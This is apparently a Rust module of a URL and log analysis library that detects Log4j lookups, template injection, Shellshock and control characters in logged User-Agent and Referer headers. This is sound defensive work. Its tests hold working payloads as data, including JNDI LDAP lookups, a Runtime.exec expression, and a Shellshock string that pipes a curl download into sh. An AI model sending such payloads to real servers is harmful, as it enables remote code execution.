//! Request headers a log keeps beside the request's URL. An access log in
//! the combined format (Apache's and nginx's default) records the
//! `Referer` and the `User-Agent`, both text the client chose: a server
//! that logs them, renders them or hands them to a program reads whatever
//! an attacker wrote there. Log4Shell's first mass attacks came in the
//! `User-Agent` (CVE-2021-44228). What a Referer's URL would do to a
//! visitor (a traversal, a look-alike host) is not the server's concern:
//! the header is read as text, as the agent is.
//!
//! [`text_header_warnings`] reads such a text for what the URL rules find
//! in any text a server logs, renders or hands to a program: Log4j
//! lookups (`jndi-lookup`), template expressions (`template-injection`)
//! and a bash function definition at its start (`shellshock`), worded for
//! the header they are in. The header is read as the log holds it (a
//! log's own escapes undone), not percent-decoded: no server decodes a
//! header.

use crate::analysis::checks::{characters, lookup, shellshock, template};
use crate::analysis::report::{finding_message, Findings};
use crate::split::Span;
use crate::warnings::Warning;

/// Whether [`text_header_warnings`] may find anything in `text` or in
/// any part of it (a log line's headers read whole): false when it holds
/// none of the bytes every finding needs, `{`, `[`, `<`, `@`, `#` or `$`
/// (a template's or a lookup's opener, `template::opens`, a Velocity
/// reference's `$`, or a function definition's `{`). Two passes of
/// `memchr`; most headers hold none.
pub fn may_warn(text: &[u8]) -> bool {
    memchr::memchr3(b'{', b'[', b'<', text).is_some()
        || memchr::memchr3(b'@', b'#', b'$', text).is_some()
}

/// The warnings of a request header's `value` read as text (`User-Agent`,
/// `Referer`), named `name` in the messages; their spans point into
/// `value` and name no component.
///
/// # Examples
/// ```
/// use urlscope_core::headers::text_header_warnings;
/// use urlscope_core::WarningCode;
/// let w = text_header_warnings("User-Agent", b"${jndi:ldap://198.51.100.7:1389/a}");
/// assert_eq!(w[0].code, WarningCode::JndiLookup);
/// assert!(w[0].message.contains("logs this User-Agent header"));
/// assert!(text_header_warnings("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)").is_empty());
/// ```
pub fn text_header_warnings(name: &str, value: &[u8]) -> Vec<Warning> {
    let mut warnings = Vec::new();
    let what = || format!("{name} header");
    if shellshock::defines_function(value) {
        let variable = format!("HTTP_{}", name.to_ascii_uppercase().replace('-', "_"));
        let span = Span::new(0, value.len());
        warnings.push(shellshock::warning(value, span, None, &what(), &variable));
    }
    control_warnings(value, &what(), &mut warnings);
    if may_warn(value) {
        let what = what();
        lookup::input_lookup_warnings(value, |_| None, &what, &mut warnings);
        template::text_template_warnings(value, &what, &mut warnings);
    }
    warnings.sort_by_key(|w| w.span.start);
    warnings
}

/// `null-byte`, `crlf` and `control-char` for the control characters of
/// a header's `value` (a log's `\xHH` escapes undone), a tab aside: one
/// warning a code, marking the first
/// [`MAX_SPANS`](crate::analysis::report::MAX_SPANS) places. An ESC in a
/// User-Agent is written for the terminal of whoever reads the log
/// unescaped, a line break to forge the log's next line.
fn control_warnings(value: &[u8], what: &str, out: &mut Vec<Warning>) {
    let mut found = Findings::default();
    let is_control = |b: u8| (b < 0x20 && b != b'\t') || b == 0x7F;
    for (i, &b) in value.iter().enumerate().filter(|(_, &b)| is_control(b)) {
        found.add(characters::control_code(b), Span::new(i, i + 1), 0, || {
            characters::control_detail(b, true)
        });
    }
    for (code, f) in found.by_code {
        let message = finding_message(code, &f.detail, f.spans.len(), f.more, f.alike, what, 0);
        out.push(Warning::new(code, f.spans, None, message));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::report::MAX_SPANS;
    use crate::warnings::{Severity, WarningCode};

    #[test]
    fn lookups_and_templates_in_an_agent_are_found_at_their_bytes() {
        let agent = b"Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a} {{7*7}}";
        let w = text_header_warnings("User-Agent", agent);
        let found: Vec<(WarningCode, &[u8])> = w
            .iter()
            .map(|w| (w.code, w.span.of(agent.as_slice())))
            .collect();
        assert_eq!(
            found,
            [
                (
                    WarningCode::JndiLookup,
                    &b"${${lower:j}ndi:ldap://evil.example/a}"[..]
                ),
                (WarningCode::TemplateInjection, &b"{{7*7}}"[..]),
            ]
        );
        assert!(w.iter().all(|w| w.component.is_none()));
        // Before a `{{`, another opener's first byte opens nothing.
        for agent in [&b"#{{7*7}}"[..], b"${{7*7}}", b"%{{7*7}}"] {
            let w = text_header_warnings("User-Agent", agent);
            assert_eq!(w.len(), 1);
            assert_eq!(w[0].span.of(agent), b"{{7*7}}");
            assert!(w[0].message.contains("Jinja2"), "{}", w[0].message);
        }
        assert!(
            w[1].message.contains("renders this User-Agent header"),
            "{}",
            w[1].message
        );
        // A payload that reaches the runtime is high.
        let w = text_header_warnings(
            "User-Agent",
            b"${T(java.lang.Runtime).getRuntime().exec('id')}",
        );
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].severity, Severity::High);
    }

    #[test]
    fn a_function_definition_at_the_start_is_shellshock() {
        let agent = b"() { :; }; /bin/bash -c 'curl http://198.51.100.7/x | sh'";
        let w = text_header_warnings("User-Agent", agent);
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].code, WarningCode::Shellshock);
        assert_eq!(w[0].span.of(agent.as_slice()), agent);
        assert!(
            w[0].message.contains("as HTTP_USER_AGENT"),
            "{}",
            w[0].message
        );
        // Bash reads the first four bytes, space included.
        for near in [&b"x () { :; }; id"[..], b"(){ :; }; id", b"()  { :; }; id"] {
            assert!(text_header_warnings("Referer", near).is_empty());
        }
    }

    /// An ESC, a line break or a NUL in a header (as logged, its escapes
    /// undone) is one warning a code, at its bytes; a tab is none.
    #[test]
    fn control_characters_in_a_header_are_found_at_their_bytes() {
        let agent = b"Mozilla/5.0 \x1b]2;owned\x07\x1b[2J\r\nforged\0\tx";
        let w = text_header_warnings("User-Agent", agent);
        let found: Vec<(WarningCode, usize)> = w.iter().map(|w| (w.code, w.spans.len())).collect();
        assert_eq!(
            found,
            [
                (WarningCode::ControlChar, 3),
                (WarningCode::Crlf, 2),
                (WarningCode::NullByte, 1)
            ]
        );
        assert_eq!(w[0].spans[0], Span::new(12, 13));
        assert!(
            w[0].message
                .starts_with("A raw control character \\x1b (ESC"),
            "{}",
            w[0].message
        );
        assert!(w[0]
            .message
            .contains("(the first of 3 places, not all alike) in the User-Agent header"));
        assert!(text_header_warnings("User-Agent", b"Mozilla/5.0\tX").is_empty());
        // A header of a million ESCs is one warning marking 64 places.
        let many = vec![0x1B; 1 << 20];
        let w = text_header_warnings("User-Agent", &many);
        assert_eq!(w.len(), 1);
        assert_eq!(w[0].spans.len(), MAX_SPANS);
        assert!(
            w[0].message.contains("more than 64 places"),
            "{}",
            w[0].message
        );
    }

    /// The gate before the opener search lets every opener through, and
    /// a function definition.
    #[test]
    fn every_opener_holds_a_gated_byte() {
        for a in 0..=u8::MAX {
            for b in 0..=u8::MAX {
                if template::opens(&[a, b]) {
                    assert!(may_warn(&[a, b]), "{:?}", [a as char, b as char]);
                }
            }
        }
        assert!(may_warn(b"() {"));
        assert!(may_warn(b"$e.getClass()"));
    }

    /// A hostile header of many expressions gives a bounded report: the
    /// first 32 listed, the rest one warning.
    #[test]
    fn many_expressions_are_listed_then_folded() {
        let agent = "{{7*7}}".repeat(10_000);
        let w = text_header_warnings("User-Agent", agent.as_bytes());
        assert_eq!(w.len(), crate::analysis::LISTED_PER_CODE + 1);
        let last = w.last().expect("the rest");
        assert_eq!(last.code, WarningCode::TemplateInjection);
        assert!(
            last.message
                .starts_with("9968 more template expressions like those above"),
            "{}",
            last.message
        );
        assert_eq!(last.spans.len(), 64);
        let lookups = "${jndi:ldap://e/a}".repeat(100);
        let w = text_header_warnings("User-Agent", lookups.as_bytes());
        assert_eq!(w.len(), crate::analysis::LISTED_PER_CODE + 1);
        assert_eq!(w.last().map(|w| w.severity), Some(Severity::High));
    }

    #[test]
    fn ordinary_agents_say_nothing() {
        for agent in [
            &b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"[..],
            b"curl/8.5.0",
            b"Googlebot/2.1 (+http://www.google.com/bot.html)",
            b"python-requests/2.31.0",
            b"-",
            b"",
            // A placeholder left unrendered, a lookup that is not JNDI.
            b"agent/${version}",
            b"x ${env:HOME}",
        ] {
            assert!(
                text_header_warnings("User-Agent", agent).is_empty(),
                "{}",
                String::from_utf8_lossy(agent)
            );
        }
    }
}
